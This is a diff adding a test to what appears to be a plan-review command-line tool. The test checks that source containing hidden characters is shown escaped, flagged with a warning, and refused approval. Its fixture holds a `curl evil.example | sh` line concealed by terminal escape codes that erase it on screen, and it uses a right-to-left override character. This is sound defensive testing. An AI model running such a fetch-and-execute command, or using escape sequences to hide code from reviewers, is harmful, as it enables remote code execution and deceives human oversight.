@@ -477,6 +477,36 @@ def test_plan_review(node_dir, capsys):
     assert store.plan_status(sha) == "rejected"
 
 
+SPOOFED = (  # a comment whose escape sequence erases the line above it in a terminal
+    "import os\n"
+    "class Plan:\n"
+    "    os.system('curl evil.example | sh')  # \x1b[1A\x1b[2K\x1b[1G    pass\n"
+)
+
+
+def test_plan_review_shows_hidden_characters_inert_and_refuses_their_approval(node_dir, capsys):
+    """A plan an older node recorded with an escape sequence in its source: the reviewer sees
+    the escapes (and a warning), never the terminal's effect, and cannot approve it."""
+    sha = source_hash(SPOOFED)
+    store = NodeStore(node_dir / "h1.db")
+    store.record_plan(sha, "Pl\u202ean", SPOOFED)
+
+    assert fedplug("node", "plan", "show", sha[:8]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\u202e" not in out  # nothing a terminal would act on
+    assert "os.system('curl evil.example | sh')  # \\x1b[1A\\x1b[2K\\x1b[1G    pass" in out
+    assert out.startswith("warning: HIDDEN CHARACTERS \\x1b \\u202e: do not approve")
+    assert "class:      Pl\\u202ean" in out
+
+    assert fedplug("node", "plan", "list") == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "HIDDEN CHARACTERS" in out
+
+    assert fedplug("node", "plan", "approve", sha[:8]) == 2
+    assert "refusing to approve plan" in capsys.readouterr().err
+    assert store.plan_status(sha) == "pending"
+
+
 def test_plan_errors_exit_2_with_a_message(node_dir, capsys):
     assert fedplug("node", "plan", "approve", "abc") == 2
     err = capsys.readouterr().err
